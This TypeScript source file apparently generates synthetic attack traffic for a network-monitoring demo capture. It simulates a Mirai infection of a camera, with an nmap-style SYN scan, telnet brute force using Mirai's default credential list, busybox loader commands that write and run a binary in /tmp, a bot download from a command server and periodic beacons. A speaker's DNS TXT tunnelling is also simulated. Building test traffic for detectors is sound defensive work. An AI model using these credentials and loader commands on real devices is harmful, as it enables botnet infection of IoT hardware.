// The attacks mixed into the demo capture, early in each loop so that alerts show within seconds.
// The camera's Mirai infection, in the order it happens: a guest laptop SYN-scans the camera and
// finds telnet open; a Mirai scanner from the internet logs in to that telnet with default
// passwords, one per connection, until the last one works; its loader then has the camera fetch
// the bot from the loader server, and the bot checks in with its C&C every 10 s (the camera's own
// complaints follow, demo-syslog.ts). Beside it, the speaker tunnels data out through DNS TXT queries.
import { ATTACKERS, DEMO_HOSTS, DEMO_LOOP_SECONDS } from './demo-devices.js';
import { hostEnd, internetEnd, routerEnd, type Scene } from './demo-steps.js';
import { DNS_TYPE, dnsAnswer, dnsQuery } from '../synth/dns-payload.js';
import { TcpConversation } from '../synth/tcp-conversation.js';
import { udpFrame } from '../synth/timeline.js';

/** When each attack starts in a loop, seconds: the camera's infection in its order (scan, brute force, loader, check-ins). */
export const ATTACK_TIMES = Object.freeze({ scan: 2, tunnel: 3, bruteforce: 5, loader: 12, beacon: 14 });

/** Seconds between two C&C check-ins (a divisor of the loop, so the period holds across loops). */
export const BEACON_PERIOD = 10;
/** Telnet logins tried, one per connection as Mirai's scanner does (the last one works), and seconds between them. */
export const BRUTEFORCE_SESSIONS = 12;
const BRUTEFORCE_SPACING = 0.5;
/** Ports the SYN scan probes (nmap's top 100 TCP ports), and which of them the camera has open. */
export const SCAN_PORTS: readonly number[] = Object.freeze([
  7, 9, 13, 21, 22, 23, 25, 26, 37, 53, 79, 80, 81, 88, 106, 110, 111, 113, 119, 135, 139, 143, 144, 179, 199, 389, 427, 443,
  444, 445, 465, 513, 514, 515, 543, 544, 548, 554, 587, 631, 646, 873, 990, 993, 995, 1025, 1026, 1027, 1028, 1029, 1110,
  1433, 1720, 1723, 1755, 1900, 2000, 2001, 2049, 2121, 2717, 3000, 3128, 3306, 3389, 3986, 4899, 5000, 5009, 5051, 5060,
  5101, 5190, 5357, 5432, 5631, 5666, 5800, 5900, 6000, 6001, 6646, 7070, 8000, 8008, 8009, 8080, 8081, 8443, 8888, 9100,
  9999, 10000, 32768, 49152, 49153, 49154, 49155, 49156, 49157,
]);
export const CAMERA_OPEN_PORTS: readonly number[] = Object.freeze([23, 80, 554]);
/** nmap keeps one source port for a whole SYN scan. */
const SCAN_SOURCE_PORT = 57361;
const SCAN_SPACING = 0.01;
/** TXT queries the tunnel sends, and seconds between them. */
export const TUNNEL_QUERIES = 60;
const TUNNEL_SPACING = 0.2;
/** Seconds to the attackers' hosts and back. */
const ATTACKER_RTT = 0.14;

/**
 * Default logins of Mirai's scanner (mirai/bot/scanner.c, public since 2016), one per session; the
 * camera's is the last ("xmhdipc", the default of many Xiongmai-based cameras' telnetd).
 */
const MIRAI_LOGINS: readonly [string, string][] = [
  ['root', 'xc3511'], ['root', 'vizxv'], ['admin', 'admin'], ['root', '888888'], ['root', 'default'], ['root', 'juantech'],
  ['root', '123456'], ['root', '54321'], ['support', 'support'], ['root', ''], ['admin', 'password'], ['root', 'xmhdipc'],
];
/** What BusyBox's login prints when the password is right: its shell, waiting at the prompt. */
const SHELL_BANNER = '\r\n\r\nBusyBox v1.19.4 (2015-03-11 17:02:55 CST) built-in shell (ash)\r\nEnter \'help\' for a list of built-in commands.\r\n\r\n# ';
/**
 * What Mirai's loader types once in (mirai/loader/src/server.c): a shell, the busybox check with its
 * tag, then, on a camera without wget or tftp, its tiny downloader echoed in (shortened here) and
 * run: that downloader fetches the bot by bare address (loaderDownload). The gateway never reads
 * these client bytes.
 */
const LOADER_COMMANDS = [
  'enable\r\n', 'system\r\n', 'shell\r\n', 'sh\r\n', '/bin/busybox MIRAI\r\n',
  "cd /tmp; /bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n",
  './dvrHelper; /bin/busybox MIRAI\r\n',
];
/** Telnet IAC DO options a telnetd opens with (RFC 854, RFC 1091 terminal type, RFC 1073 window size). */
const TELNETD_OPENING = Buffer.from([0xff, 0xfd, 0x18, 0xff, 0xfd, 0x20, 0xff, 0xfd, 0x23, 0xff, 0xfd, 0x27]);
/** …and the bot refusing every option. */
const BOT_REFUSAL = Buffer.from([0xff, 0xfc, 0x18, 0xff, 0xfc, 0x20, 0xff, 0xfc, 0x23, 0xff, 0xfc, 0x27]);

/** RFC 4648 §6 base32, lower case, no padding: what DNS tunnels write into labels. */
function base32(b: Buffer): string {
  const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';
  let out = '';
  let bits = 0;
  let acc = 0;
  for (const byte of b) {
    acc = (acc << 8) | byte;
    bits += 8;
    while (bits >= 5) {
      out += alphabet[(acc >>> (bits - 5)) & 31];
      bits -= 5;
    }
    acc &= (1 << bits) - 1;
  }
  return bits > 0 ? out + alphabet[(acc << (5 - bits)) & 31] : out;
}

/** The first bytes of a 32-bit little-endian ARM executable (System V ABI ELF header, e_machine 40). */
function armElfHeader(): Buffer {
  const h = Buffer.alloc(52);
  h.writeUInt32BE(0x7f454c46, 0); // \x7fELF
  h[4] = 1; // 32-bit
  h[5] = 1; // little-endian
  h[6] = 1; // version
  h.writeUInt16LE(2, 16); // ET_EXEC
  h.writeUInt16LE(40, 18); // EM_ARM
  h.writeUInt32LE(1, 20);
  return h;
}

/** The camera fetches a bot build for its CPU from the loader server, by bare address (no DNS, no Host). */
function loaderDownload(s: Scene, t: number): void {
  const cam = DEMO_HOSTS.camera;
  const c = new TcpConversation(s.out, hostEnd(cam, s.rnd.ephemeralPort()), internetEnd(ATTACKERS.c2, 80), s.rnd, { serverRtt: ATTACKER_RTT });
  let at = c.open(t);
  at = c.send('client', Buffer.from('GET /bins/mirai.arm7 HTTP/1.0\r\n\r\n', 'latin1'), at);
  const body = Buffer.concat([armElfHeader(), s.rnd.bytes(24 * 1024)]);
  const head = Buffer.from(`HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: ${body.length}\r\n\r\n`, 'latin1');
  at = c.send('server', Buffer.concat([head, body]), at);
  c.close('server', at + 0.01);
}

/** Check-ins with the C&C on its IRC port: a new connection every BEACON_PERIOD s until the loop ends, same bytes each time. */
function c2Beacon(s: Scene, t0: number): void {
  const cam = DEMO_HOSTS.camera;
  for (let t = t0; t < DEMO_LOOP_SECONDS; t += BEACON_PERIOD) {
    const c = new TcpConversation(s.out, hostEnd(cam, s.rnd.ephemeralPort()), internetEnd(ATTACKERS.c2, ATTACKERS.c2Port), s.rnd, { serverRtt: ATTACKER_RTT });
    let at = c.open(t + s.rnd.jitter(0.3));
    at = c.exchange(Buffer.from('PING :hc1-7f3a\r\n', 'latin1'), Buffer.from('PONG :hc1-7f3a\r\n', 'latin1'), at);
    c.close('client', at + 0.05);
  }
}

/**
 * One login per connection against the camera's telnet: each answered "Login incorrect" but the
 * last, which gets a shell; the loader's commands follow in that session.
 */
function telnetBruteforce(s: Scene, t0: number): void {
  const cam = DEMO_HOSTS.camera;
  for (let i = 0; i < BRUTEFORCE_SESSIONS; i++) {
    const [user, pass] = MIRAI_LOGINS[i % MIRAI_LOGINS.length]!;
    const c = new TcpConversation(s.out, internetEnd(ATTACKERS.telnetBruteforcer, s.rnd.ephemeralPort()), hostEnd(cam, 23), s.rnd, {
      clientRtt: ATTACKER_RTT, serverRtt: 0.0008,
    });
    let at = c.open(t0 + i * BRUTEFORCE_SPACING);
    at = c.send('server', TELNETD_OPENING, at + 0.002);
    at = c.send('client', BOT_REFUSAL, at);
    at = c.send('server', Buffer.from(`\r\n${cam.hostname} login: `, 'latin1'), at + 0.003);
    at = c.send('client', Buffer.from(`${user}\r\n`, 'latin1'), at);
    at = c.send('server', Buffer.from('Password: ', 'latin1'), at + 0.002);
    at = c.send('client', Buffer.from(`${pass}\r\n`, 'latin1'), at);
    if (i < BRUTEFORCE_SESSIONS - 1) {
      at = c.send('server', Buffer.from('\r\nLogin incorrect\r\n', 'latin1'), at + 0.3);
      c.close('client', at);
      continue;
    }
    at = c.send('server', Buffer.from(SHELL_BANNER, 'latin1'), at + 0.05);
    for (const cmd of LOADER_COMMANDS) {
      at = c.send('client', Buffer.from(cmd, 'latin1'), at + 0.02);
      at = c.send('server', Buffer.from(cmd.includes('/bin/busybox MIRAI') ? 'MIRAI: applet not found\r\n# ' : '# ', 'latin1'), at + 0.01);
    }
    c.close('client', at + 0.05);
  }
}

/** nmap -sS from the guest laptop against the camera: SYN, then RST-ACK (closed) or SYN-ACK and the scanner's RST. */
function synScan(s: Scene, t0: number): void {
  const laptop = DEMO_HOSTS.laptop;
  const cam = DEMO_HOSTS.camera;
  SCAN_PORTS.forEach((port, i) => {
    const c = new TcpConversation(s.out, hostEnd(laptop, SCAN_SOURCE_PORT), hostEnd(cam, port), s.rnd, { serverRtt: 0.0006, clientRtt: 0.0004 });
    c.synProbe(t0 + i * SCAN_SPACING, CAMERA_OPEN_PORTS.includes(port));
  });
}

/** The speaker sends data out in base32 labels of TXT queries under the tunnel's domain; the answers carry data back. */
function dnsTunnel(s: Scene, t0: number): void {
  const spk = DEMO_HOSTS.speaker;
  for (let i = 0; i < TUNNEL_QUERIES; i++) {
    const t = t0 + i * TUNNEL_SPACING;
    const name = `${base32(s.rnd.bytes(32))}.t.${ATTACKERS.tunnelDomain}`;
    const id = s.rnd.int(0, 0xffff);
    const client = hostEnd(spk, s.rnd.ephemeralPort());
    const resolver = routerEnd(53);
    s.out.add(t, udpFrame(client, resolver, dnsQuery(id, name, DNS_TYPE.TXT)));
    const reply = dnsAnswer(id, name, DNS_TYPE.TXT, [{ name, type: 'TXT', ttl: 0, texts: [base32(s.rnd.bytes(20))] }]);
    s.out.add(t + 0.09, udpFrame(resolver, client, reply));
  }
}

/** Writes every attack of one loop into the scene. */
export function writeAttacks(s: Scene): void {
  synScan(s, ATTACK_TIMES.scan);
  telnetBruteforce(s, ATTACK_TIMES.bruteforce);
  loaderDownload(s, ATTACK_TIMES.loader);
  c2Beacon(s, ATTACK_TIMES.beacon);
  dnsTunnel(s, ATTACK_TIMES.tunnel);
}
